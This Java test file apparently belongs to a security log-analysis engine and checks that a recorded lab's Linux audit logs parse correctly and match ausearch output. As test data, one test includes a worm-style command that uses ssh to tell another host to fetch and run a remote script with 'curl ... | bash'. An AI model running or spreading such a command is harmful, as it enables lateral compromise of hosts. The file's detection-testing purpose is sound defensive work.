package org.hopline.engine.parse.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import org.hopline.engine.event.Event;
import org.hopline.engine.event.FieldName;
import org.hopline.engine.event.Form;
import org.hopline.engine.event.Kind;
import org.hopline.engine.event.Outcome;
import org.hopline.engine.event.UserId;
import org.hopline.engine.parse.CopyKey;
import org.hopline.engine.parse.StructuredReading;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** The recorded scenario's audit log, raw and enriched, against what the audit tools make of it. */
class AuditLabTest {

    private static StructuredReading lab(String name) {
        return StructuredReading.of(new AuditFormat(), StructuredReading.shared("lab/audit/" + name),
                Integer.MAX_VALUE);
    }

    @Test
    void everyRecordIsUnderstood() {
        StructuredReading enriched = lab("audit.enriched.log");
        assertThat(enriched.records).hasSize(5170);
        assertThat(enriched.unparsed).isEmpty();
        assertThat(enriched.records).allSatisfy(event -> assertThat(event.host()).hasToString("fcvm01"));
        Map<String, Integer> kinds = new TreeMap<>();
        enriched.assembled.forEach(e -> kinds.merge(e.kind().getClass().getSimpleName(), 1, Integer::sum));
        System.out.println("lab audit: 5170 records, assembled " + kinds);
    }

    @Test
    void rawAndEnrichedLogsGiveTheSameAssembledEvents() {
        List<Event> enriched = lab("audit.enriched.log").assembled;
        List<Event> raw = lab("audit.raw.log").assembled;
        assertThat(raw).hasSameSizeAs(enriched);
        Map<String, String> names = Map.of("0", "root", "20001", "alice", "20002", "svc-deploy", "20003", "bob");
        for (int i = 0; i < raw.size(); i++) {
            assertThat(raw.get(i).time()).isEqualTo(enriched.get(i).time());
            assertThat(CopyKey.of(raw.get(i))).isEqualTo(CopyKey.of(enriched.get(i)));
            assertThat(named(raw.get(i).kind(), names)).isEqualTo(named(enriched.get(i).kind(), names));
        }
        System.out.println("lab audit: " + raw.size() + " assembled events, raw = enriched but for names");
    }

    /** Raw logs hold ids where enriched ones hold names. */
    private static Kind named(Kind kind, Map<String, String> names) {
        return switch (kind) {
            case Kind.ProcessStarted p -> new Kind.ProcessStarted(p.pid(), p.parentPid(), p.image(), p.arguments(),
                    p.commandLine(), p.workingDirectory(), named(p.user(), names), p.loginUid(), p.auditSession(),
                    p.tty(), p.parentImage(), p.parentCommandLine(), p.outcome());
            case Kind.NetworkConnection n -> new Kind.NetworkConnection(n.pid(), n.image(), named(n.user(), names),
                    n.direction(), n.source(), n.destination(), n.auditSession(), n.outcome());
            case Kind.FileChanged f -> new Kind.FileChanged(f.action(), f.path(), f.pid(), f.image(),
                    named(f.user(), names), f.auditSession(), f.outcome());
            case Kind.AuditLogon l -> new Kind.AuditLogon(l.step(), l.outcome(), l.pid(), named(l.user(), names),
                    l.loginUid(), l.auditSession(), l.client(), l.server(), l.terminal(), l.program(),
                    l.credential());
            default -> kind;
        };
    }

    private static @Nullable UserId named(@Nullable UserId user, Map<String, String> names) {
        return user == null ? null : new UserId(names.getOrDefault(user.name(), user.name()));
    }

    @Test
    void assembledExecveEventsEqualWhatAusearchLists() {
        Map<Long, Kind.ProcessStarted> ours = new TreeMap<>();
        for (Event event : lab("audit.enriched.log").assembled) {
            if (event.kind() instanceof Kind.ProcessStarted process) {
                ours.put(AuditStamp.of(event).serial(), process);
            }
        }
        String expected = new String(StructuredReading.shared("lab/audit/ausearch-i.expected.txt"),
                StandardCharsets.UTF_8);
        Map<Long, Map<String, String>> theirs = new TreeMap<>();
        for (String line : expected.split("\n")) {
            int stamp = line.indexOf("msg=audit(");
            if (stamp < 0) {
                continue;
            }
            int close = line.indexOf(')', stamp);
            long serial = Long.parseLong(line.substring(line.lastIndexOf(':', close) + 1, close));
            String type = line.substring(line.indexOf("type=") + 5, stamp).trim();
            theirs.computeIfAbsent(serial, s -> new HashMap<>()).merge(type, line.substring(close + 3),
                    (first, second) -> type.equals("PATH") && second.contains("item=0 ") ? second : first);
        }
        theirs.values().removeIf(records -> !records.getOrDefault("SYSCALL", "").contains(" syscall=execve "));
        // The expected file was made later than the log was cut: it goes on with three sessions the log does not hold.
        long last = java.util.Collections.max(ours.keySet());
        assertThat(last).isEqualTo(2474L);
        theirs.keySet().removeIf(serial -> serial > last);
        assertThat(ours.keySet()).isEqualTo(theirs.keySet());
        int arguments = 0;
        for (Map.Entry<Long, Map<String, String>> event : theirs.entrySet()) {
            Kind.ProcessStarted process = Objects.requireNonNull(ours.get(event.getKey()));
            String call = Objects.requireNonNull(event.getValue().get("SYSCALL"));
            assertThat(process.pid()).isEqualTo(Long.parseLong(field(call, "pid")));
            assertThat(process.parentPid()).isEqualTo(Long.parseLong(field(call, "ppid")));
            assertThat(process.user()).hasToString(field(call, "uid"));
            assertThat(process.outcome())
                    .isEqualTo(field(call, "success").equals("yes") ? Outcome.SUCCESS : Outcome.FAILURE);
            assertThat(process.auditSession()).isEqualTo(
                    field(call, "ses").equals("unset") ? null : field(call, "ses"));
            String execve = event.getValue().get("EXECVE");
            if (execve != null) {
                assertThat(process.image()).isEqualTo(field(call, "exe"));
                // ausearch quotes nothing, so the whole record is compared as one text.
                StringBuilder text = new StringBuilder(": argc=" + process.arguments().size());
                for (int i = 0; i < process.arguments().size(); i++) {
                    text.append(" a").append(i).append('=').append(process.arguments().get(i));
                    arguments++;
                }
                assertThat(flat(text.toString())).isEqualTo(flat(": " + execve.replaceFirst("^[: ]+", "")));
                assertThat(process.commandLine()).isEqualTo(String.join(" ", process.arguments()));
            } else {
                assertThat(process.arguments()).isEmpty();
                assertThat(process.commandLine()).isNull();
            }
            assertThat(process.workingDirectory()).isEqualTo(field(
                    Objects.requireNonNull(event.getValue().get("CWD")), "cwd"));
        }
        System.out.println("lab audit: " + theirs.size() + " execve events and " + arguments
                + " arguments equal ausearch's");
    }

    private static String flat(String text) {
        return text.replaceAll("\\s+", " ").trim();
    }

    private static String field(String record, String name) {
        int at = (" " + record).indexOf(" " + name + "=");
        int from = at + name.length() + 1;
        int to = record.indexOf(' ', from);
        return record.substring(from, to < 0 ? record.length() : to);
    }

    @Test
    void theWormCommandHasItsWholeCommandLineAndNotTheStaleTitle() {
        for (String name : List.of("audit.enriched.log", "audit.raw.log")) {
            List<Event> found = new ArrayList<>();
            for (Event event : lab(name).assembled) {
                if (AuditStamp.of(event).serial() == 1813) {
                    found.add(event);
                }
            }
            assertThat(found).hasSize(1);
            Kind.ProcessStarted ssh = (Kind.ProcessStarted) found.getFirst().kind();
            assertThat(ssh.arguments()).containsExactly("ssh", "-oStrictHostKeyChecking=no", "-oConnectTimeout=5",
                    "-oBatchMode=yes", "alice@app02", "curl -s http://10.99.0.66:8000/x.sh | bash");
            assertThat(ssh.commandLine()).isEqualTo("ssh -oStrictHostKeyChecking=no -oConnectTimeout=5 "
                    + "-oBatchMode=yes alice@app02 curl -s http://10.99.0.66:8000/x.sh | bash");
            assertThat(ssh.image()).isEqualTo("/usr/bin/ssh");
            assertThat(ssh.user()).hasToString(name.contains("raw") ? "20001" : "alice");
            // The shell gave its process to ssh, so the parent is the session's sshd, known from its own records.
            assertThat(ssh.parentImage()).isEqualTo("/usr/lib/openssh/sshd-session");
            assertThat(ssh.parentCommandLine()).isNull();
            assertThat(ssh.auditSession()).isEqualTo("42");
            assertThat(found.getFirst().parts()).hasSize(6);
            assertThat(found.getFirst().fields().get(FieldName.of("cmdline")).text(Form.DECODED))
                    .isEqualTo(ssh.commandLine());
        }
    }

    @Test
    void theOutgoingConnectionsAreTold() {
        List<String> told = new ArrayList<>();
        for (Event event : lab("audit.enriched.log").assembled) {
            if (event.kind() instanceof Kind.NetworkConnection c) {
                told.add(c.image() + " " + c.direction() + " " + c.destination() + " " + c.user());
            }
        }
        assertThat(told).hasSize(7).contains("/usr/bin/ssh OUTGOING 10.99.0.12:22 alice")
                .anyMatch(line -> line.contains("10.99.0.13:22 svc-deploy"));
    }

    @Test
    void smallPiecesGiveTheSameEvents() {
        byte[] bytes = StructuredReading.shared("lab/audit/audit.enriched.log");
        StructuredReading whole = StructuredReading.of(new AuditFormat(), bytes, Integer.MAX_VALUE);
        StructuredReading pieces = StructuredReading.of(new AuditFormat(), bytes, 997);
        assertThat(pieces.assembled.stream().map(Event::kind)).containsExactlyElementsOf(
                whole.assembled.stream().map(Event::kind).toList());
        assertThat(pieces.records.stream().map(event -> event.record().offset())).containsExactlyElementsOf(
                whole.records.stream().map(event -> event.record().offset()).toList());
    }
}
